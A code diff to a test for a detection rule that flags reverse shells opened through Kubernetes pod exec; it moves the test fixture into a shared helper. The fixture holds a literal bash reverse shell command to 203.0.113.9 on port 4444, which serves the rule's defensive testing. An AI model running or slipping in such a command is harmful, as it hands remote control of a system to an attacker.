@@ -1,16 +1,9 @@
 import { strict as assert } from 'node:assert';
 import { execReverseShell } from '../../../../shared/detection/rules/exec-reverse-shell.ts';
 import { firedBy } from '../../../fixtures/signals.ts';
-import { ruleCases } from '../cases.ts';
+import { execOfCart, ruleCases } from '../cases.ts';
 
-const BASE = {
-  verb: 'create',
-  resource: 'pods',
-  subresource: 'exec',
-  namespace: 'shop',
-  name: 'cart-0',
-  command: 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
-};
+const BASE = execOfCart('bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1');
 const UNCERTAIN = { severity: 'medium', confidence: 0.45, conclusive: false } as const;
 
 describe('rule exec-reverse-shell', () => {
